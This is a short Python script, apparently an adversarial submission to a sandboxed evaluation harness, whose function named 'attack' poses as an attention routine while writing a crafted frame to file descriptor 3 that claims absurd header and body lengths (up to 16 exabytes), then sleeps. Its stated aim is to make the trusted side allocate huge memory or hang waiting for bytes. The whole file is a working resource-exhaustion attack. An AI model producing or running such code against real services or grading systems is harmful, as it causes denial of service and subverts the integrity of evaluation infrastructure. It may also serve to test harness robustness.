"""Announces a header of 4 GB and a body of 16 EB in a frame, so that the trusted side allocates them or waits for bytes that never come."""
import os, struct, time
turn = [0]
sizes = [(0xFFFFFFFF, 0), (2, 0xFFFFFFFFFFFFFFFF), (2, 1 << 63), (1 << 30, 1 << 40), (0, 0), (2, 6 << 30)]
def attack(q, k, v, mask):
    head, body = sizes[turn[0] % len(sizes)]
    turn[0] += 1
    os.write(3, b"TGF1" + struct.pack(">IQ", head, body) + b"{}")
    time.sleep(60)
